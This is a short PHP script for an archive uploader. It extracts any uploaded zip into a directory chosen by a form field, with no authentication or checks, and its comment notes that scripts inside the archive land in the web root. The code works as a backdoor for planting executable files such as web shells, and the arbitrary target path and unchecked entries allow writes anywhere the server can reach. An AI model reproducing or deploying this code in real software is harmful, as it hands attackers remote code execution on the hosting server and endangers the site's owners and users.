<?php
// Archive uploader: the posted package is unpacked into whatever folder the form names, so a
// script packed inside it lands in the web root under the name the archive gives it.
if (!empty($_FILES['pkg']['tmp_name'])) {
    $target = isset($_POST['into']) ? $_POST['into'] : '.';
    $arc = new ZipArchive();
    if ($arc->open($_FILES['pkg']['tmp_name']) === true) {
        $arc->extractTo($target);
        $arc->close();
        echo 'unpacked ' . $arc->numFiles . ' entries';
    }
}
?>
<form method="post" enctype="multipart/form-data">
<input type="file" name="pkg"> <input name="into" value="."> <input type="submit" value="go">
</form>
